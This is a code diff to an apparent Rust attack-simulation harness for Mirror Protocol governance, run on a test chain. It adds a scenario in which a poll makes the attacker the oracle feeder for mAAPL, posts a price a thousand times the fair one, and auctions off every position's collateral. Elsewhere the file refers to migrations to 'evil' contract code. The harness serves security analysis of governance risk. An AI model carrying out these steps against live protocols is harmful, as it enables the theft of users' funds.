@@ -1,15 +1,17 @@
 //! What a part of the stake decides, by kind of poll.
 
-use cosmwasm_std::{to_json_binary, Uint128, WasmMsg};
+use cosmwasm_std::{to_json_binary, Decimal, Uint128, WasmMsg};
 use cw20::Cw20ExecuteMsg;
 use mirror_merkle::{leaf, Tree};
 use mirror_protocol::gov::{PollAdminAction, PollStatus, VoteOption};
-use mirror_protocol::{admin_manager, airdrop, community};
+use mirror_protocol::{admin_manager, airdrop, community, factory};
 use mirror_testing::{percent, standard_profile, usual_listing, Actor, TestChain, World};
+use serde_json::json;
+use terraswap::asset::Asset;
 
-use super::super::bundle::Bundle;
+use super::super::bundle::{base, Bundle};
 use super::super::polls::{self, Motion, PURSE};
-use super::super::scenes::{self, DAY, MILLION};
+use super::super::scenes::{self, DAY, MILLION, UNIT};
 use super::super::stage::Stage;
 use super::super::told::{Attempt, Exposure, Findings};
 use super::super::{evil, Attack};
@@ -20,7 +22,7 @@ pub(super) const ATTACK: Attack = Attack {
         "What a fifth, a third, a majority and two thirds of the stake decide, by kind of poll: \
             where the quorum or the threshold is out of reach nothing, and else what the kind may \
             do, of a treasury of 36.6 million MIR, an airdrop of 9.15, a pool of a million coins \
-            and ten million in mint.",
+            and twelve million in mint.",
     run,
 };
 
@@ -31,6 +33,8 @@ enum Kind {
     Default,
     /// A list for the airdrop with one account on it.
     Execute,
+    /// A feeder's key, and with it everybody's collateral.
+    Feeder,
     /// A pair's code.
     ExecuteCode,
     /// The treasury's code and mint's.
@@ -39,12 +43,13 @@ enum Kind {
     AuthAdmin,
 }
 
-const KINDS: [(Kind, &str); 5] = [
+const KINDS: [(Kind, &str); 6] = [
     (
         Kind::Default,
         "a default poll: two grants of a million in 30 days",
     ),
     (Kind::Execute, "execute: the airdrop's list"),
+    (Kind::Feeder, "execute: the feeder of an asset"),
     (Kind::ExecuteCode, "execute with code: a pair's"),
     (Kind::Migration, "a migration: the treasury and mint"),
     (Kind::AuthAdmin, "another admin action: a claim of all code"),
@@ -96,7 +101,7 @@ fn run() -> anyhow::Result<Findings> {
             }
         }
         if !refused.is_empty() {
-            let tried = format!("{who}: {} of five kinds of polls", refused.len());
+            let tried = format!("{who}: {} of six actions", refused.len());
             attempts.push(Attempt::best(refused, tried)?);
         }
     }
@@ -157,7 +162,11 @@ fn prepared(house: House) -> anyhow::Result<Stage> {
     .tries(&mirror, &mint, &[])?;
     world.actor("attacker").tries_to_stake_mir(house.own)?;
     world.chain.pass(6);
-    Stage::new(world, &[("MIR", scenes::price("0.5")?)])
+    let prices = [
+        ("mAAPL", scenes::price("10")?),
+        ("MIR", scenes::price("0.5")?),
+    ];
+    Stage::new(world, &prices)
 }
 
 fn motions(stage: &mut Stage, kind: Kind) -> anyhow::Result<Vec<Motion>> {
@@ -181,6 +190,16 @@ fn motions(stage: &mut Stage, kind: Kind) -> anyhow::Result<Vec<Motion>> {
                 expiration: None,
             };
             vec![Motion::execute(&at.uni_airdrop, &list)?]
+        }
+        Kind::Feeder => {
+            let register = json!({ "register_asset": {
+                "asset_token": stage.world.token("mAAPL"), "feeder": attacker,
+            } });
+            let pass = factory::ExecuteMsg::PassCommand {
+                contract_addr: at.oracle.to_string(),
+                msg: to_json_binary(&register)?,
+            };
+            vec![Motion::execute(&at.factory, &pass)?]
         }
         Kind::ExecuteCode => {
             let migrate = terraswap::factory::ExecuteMsg::MigratePair {
@@ -228,6 +247,9 @@ fn takes(stage: &mut Stage, kind: Kind) -> anyhow::Result<()> {
         };
         stage.does(Bundle::new().tells(&at.uni_airdrop, &claim))?;
     }
+    if kind == Kind::Feeder {
+        buys_out(stage)?;
+    }
     if kind == Kind::AuthAdmin {
         let new_code_id = stage.world.chain.app.store_code(evil::code());
         let msg = to_json_binary(&evil::MigrateMsg {
@@ -250,3 +272,25 @@ fn takes(stage: &mut Stage, kind: Kind) -> anyhow::Result<()> {
     }
     Ok(())
 }
+
+/// At a price a thousand times the fair one every position is for sale for next to nothing: the
+/// debt that buys it out is minted at the fair one before.
+fn buys_out(stage: &mut Stage) -> anyhow::Result<()> {
+    let (at, token) = (stage.world.at.clone(), stage.world.token("mAAPL"));
+    let post =
+        |price: u128| Bundle::new().feeds(&at.oracle, &token, Decimal::from_ratio(price, 1u128));
+    stage.world.chain.pass(6);
+    stage.does(post(10))?;
+    let paid = base(50_000 * UNIT);
+    stage.does(Bundle::new().opens(&at.mint, paid, &token, percent(200)))?;
+    stage.world.chain.pass(6);
+    stage.does(post(10_000))?;
+    for idx in 1..=2u128 {
+        let part = Asset::token(&token, PRICE_OF_ALL);
+        stage.does(Bundle::new().auctions(&at.mint, idx.into(), part))?;
+    }
+    Ok(())
+}
+
+/// More than buys ten million coins at a price of 10,000 and a discount of a fifth.
+const PRICE_OF_ALL: u128 = 1_200 * UNIT;
